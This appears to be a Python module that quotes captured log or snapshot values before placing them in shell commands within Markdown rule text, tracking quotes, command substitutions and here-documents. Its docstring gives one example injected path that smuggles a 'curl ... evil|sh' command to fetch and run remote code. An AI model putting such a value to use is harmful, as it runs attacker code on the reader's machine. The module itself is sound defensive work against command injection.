"""Values from a log or a snapshot put into a rule's Markdown text: as read in prose, quoted for
the shell inside code (a code span or a fenced block), where a reader copies commands from.

A captured path such as `/opt/x;curl${IFS}evil|sh;.so` put into `` `ldd {library}` `` as it was
read would give the reader a command that runs another one. Inside code each value is quoted
for where it lands in the shell's reading of the template: outside quotes, inside '...', inside
"...", in a here-document, in a command substitution. A value made only of characters the shell
reads as themselves (`0000:3b:00.0`, `/usr/lib/libcuda.so.1`) stays as it is everywhere.
"""

from __future__ import annotations

import re
from typing import Callable

from troubleshoot.lazyre import lazy

# A value never brings a line break into code: it would end a fenced block or a code span's
# paragraph, and put the rest of the value outside any quotes.
_BREAKS = dict.fromkeys(map(ord, "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"), " ")  # str.translate: no regex to compile
_FENCE = lazy(r"^ {0,3}(`{3,}|~{3,})")
_CLOSING = lazy(r"^ {0,3}(`{3,}|~{3,})[ \t]*$")
_BACKTICKS = lazy(r"`+")
_DOUBLE_SPECIAL = lazy(r'[$`\\"!]')
_HEREDOC = lazy(r"<<-?\s*(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\1")

Lookup = Callable[[str], str | None]
Shown = Callable[[str], str]


def as_read(value: str) -> str:
    return value


def fill(text: str, placeholder: re.Pattern, lookup: Lookup, prose: Shown = as_read) -> str:
    """`text` with each placeholder that `lookup` knows replaced; prose gets `prose(value)` (the
    value as it is, or escaped for Markdown), code gets it quoted for the shell. Unknown
    placeholders stay as written."""
    out = []
    for kind, part in _blocks(text):
        if kind == "code":
            out.append(_code(part, placeholder, lookup))
        elif kind == "prose":
            out.append(_prose(part, placeholder, lookup, prose))
        else:
            out.append(part)
    return "".join(out)


def _blocks(text: str) -> list[tuple[str, str]]:
    """The text as ("prose" | "code" | "fence", text) parts: fenced blocks, and lines indented by
    four spaces or a tab after a blank line (an indented code block; inside a list that may be a
    paragraph, which then only gets its values quoted)."""
    parts: list[tuple[str, list[str]]] = [("prose", [])]
    fence: str | None = None
    blank = True
    for line in text.splitlines(keepends=True):
        opening = _FENCE.match(line) if fence is None else None
        if opening:
            fence = opening.group(1)
            parts += [("fence", [line]), ("code", [])]
        elif fence is not None and _closes(line, fence):
            fence = None
            parts += [("fence", [line]), ("prose", [])]
        elif fence is None and line.strip() and line.startswith(("    ", "\t")) and (blank or parts[-1][0] == "code"):
            if parts[-1][0] != "code":
                parts.append(("code", []))
            parts[-1][1].append(line)
        elif fence is None and parts[-1][0] == "code" and line.strip():
            parts.append(("prose", [line]))
        else:
            parts[-1][1].append(line)
        blank = not line.strip()
    return [(kind, "".join(lines)) for kind, lines in parts if lines]


def _closes(line: str, fence: str) -> bool:
    closing = _CLOSING.match(line)
    return closing is not None and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= len(fence)


def _prose(text: str, placeholder: re.Pattern, lookup: Lookup, shown: Shown) -> str:
    """Prose with its code spans: the value as read outside them, quoted inside. A span
    (CommonMark) opens with a run of backticks and closes at the next run as long, within one
    paragraph."""
    out: list[str] = []
    for k, para in enumerate(re.split(r"(\n[ \t]*\n)", text)):
        if k % 2:
            out.append(para)
            continue
        at = 0
        runs = list(_BACKTICKS.finditer(para))
        i = 0
        while i < len(runs):
            opening = runs[i]
            close = next((j for j in range(i + 1, len(runs)) if len(runs[j].group()) == len(opening.group())), None)
            if close is None:
                i += 1
                continue
            out.append(_plain(para[at : opening.start()], placeholder, lookup, shown))
            inner = para[opening.end() : runs[close].start()]
            if placeholder.fullmatch(inner.strip()):  # a value shown on its own, not a command
                inner = _plain(inner, placeholder, lookup).translate(_BREAKS)
            else:
                inner = _code(inner, placeholder, lookup)
            out.append(_span(inner, len(opening.group())))
            at = runs[close].end()
            i = close + 1
        out.append(_plain(para[at:], placeholder, lookup, shown))
    return "".join(out)


def _plain(text: str, placeholder: re.Pattern, lookup: Lookup, shown: Shown = as_read) -> str:
    def sub(m: re.Match) -> str:
        value = lookup(m.group(1))
        return m.group(0) if value is None else shown(value)

    return placeholder.sub(sub, text)


def _span(inner: str, ticks: int) -> str:
    """A code span around `inner`, delimited by more backticks than any run inside it when a
    value brought one in (a run as long as the delimiter would end the span early)."""
    if all(len(r) != ticks for r in _BACKTICKS.findall(inner)):
        return "`" * ticks + inner + "`" * ticks
    longest = max(len(r) for r in _BACKTICKS.findall(inner))
    return "`" * (longest + 1) + " " + inner + " " + "`" * (longest + 1)


def _code(text: str, placeholder: re.Pattern, lookup: Lookup) -> str:
    """Shell code with each known value quoted for the context it lands in."""
    shell = ShellReader()
    out: list[str] = []
    at = 0
    for m in placeholder.finditer(text):
        value = lookup(m.group(1))
        if value is None:
            continue
        shell.feed(text[at : m.start()])
        out.append(text[at : m.start()])
        out.append(quote(value.translate(_BREAKS), shell.context))
        at = m.end()
    out.append(text[at:])
    return "".join(out)


def quote(value: str, context: str) -> str:
    """`value` as one word (or part of one) of the shell's reading, in `context`."""
    if context == "single":
        return value.replace("'", "'\"'\"'")
    if context == "heredoc":  # an unquoted here-document expands $, ` and \ only
        return re.sub(r"([$`\\])", r"\\\1", value)
    if context == "literal":  # a here-document with a quoted delimiter: nothing expands
        return value
    import shlex  # here: most texts fill no command

    if context == "double":
        # Inside "..." only these characters do anything; with one of them the value leaves the
        # double quotes, goes in quoted, and comes back.
        return '"' + shlex.quote(value) + '"' if _DOUBLE_SPECIAL.search(value) else value
    return shlex.quote(value)


class _Frame:
    """One level of the shell's reading: the top, or a command substitution inside it."""

    def __init__(self, kind: str) -> None:
        self.kind = kind  # "top", "paren" ($(...)) or "backtick"
        self.state = "plain"  # "plain", "single", "double" or "comment"
        self.parens = 0  # subshell parentheses open inside a $(...)


class ShellReader:
    """Where the shell is in its reading of a template, as far as quoting goes: outside quotes
    (`plain`), in '...', in "...", in a comment, in a here-document. A command substitution
    (`$(...)` or backticks) starts a new plain context, even inside double quotes."""

    def __init__(self) -> None:
        self.stack = [_Frame("top")]
        self.heredocs: list[tuple[str, bool]] = []  # (delimiter, quoted), bodies from the next line
        self.body: tuple[str, bool] | None = None  # the here-document being read
        self.line = ""  # its current line so far
        self.prev = "\n"  # the character before the next one fed

    @property
    def context(self) -> str:
        if self.body is not None:
            return "literal" if self.body[1] else "heredoc"
        state = self.stack[-1].state
        return "plain" if state == "comment" else state

    def feed(self, text: str) -> None:
        i = 0
        while i < len(text):
            i = self._body(text, i) if self.body is not None else self._step(text, i)
            self.prev = text[i - 1]

    def _body(self, text: str, i: int) -> int:
        end = text.find("\n", i)
        if end < 0:
            self.line += text[i:]
            return len(text)
        if (self.line + text[i:end]).lstrip("\t") == (self.body or ("",))[0]:
            self.body = self.heredocs.pop(0) if self.heredocs else None
        self.line = ""
        return end + 1

    def _step(self, text: str, i: int) -> int:
        frame, c = self.stack[-1], text[i]
        if c == "\n" and frame.state in ("plain", "comment") and self.heredocs:
            frame.state = "plain"
            self.body = self.heredocs.pop(0)
        elif frame.state == "single":
            frame.state = "plain" if c == "'" else "single"
        elif frame.state == "comment":
            frame.state = "plain" if c == "\n" else "comment"
        elif c == "\\":
            return i + 2
        elif frame.state == "double":
            return self._in_double(text, i, frame)
        else:
            return self._in_plain(text, i, frame)
        return i + 1

    def _in_double(self, text: str, i: int, frame: _Frame) -> int:
        c = text[i]
        if c == '"':
            frame.state = "plain"
        elif text.startswith("$(", i):
            self.stack.append(_Frame("paren"))
            return i + 2
        elif c == "`":
            self.stack.append(_Frame("backtick"))
        return i + 1

    def _in_plain(self, text: str, i: int, frame: _Frame) -> int:
        c = text[i]
        if text.startswith("<<<", i):  # a here-string: one word, read like any other
            return i + 3
        heredoc = _HEREDOC.match(text, i) if c == "<" else None
        if c in "'\"":
            frame.state = "single" if c == "'" else "double"
        elif c == "#" and (i and text[i - 1] or self.prev) in " \t\n;&|(":
            frame.state = "comment"
        elif text.startswith("$(", i):
            self.stack.append(_Frame("paren"))
            return i + 2
        elif c == "`":
            if frame.kind == "backtick":
                self.stack.pop()
            else:
                self.stack.append(_Frame("backtick"))
        elif c == "(":
            frame.parens += 1
        elif c == ")":
            self._close_paren(frame)
        elif heredoc is not None:
            self.heredocs.append((heredoc.group(2), bool(heredoc.group(1))))
            return heredoc.end()
        return i + 1

    def _close_paren(self, frame: _Frame) -> None:
        if frame.parens:
            frame.parens -= 1
        elif frame.kind == "paren":
            self.stack.pop()
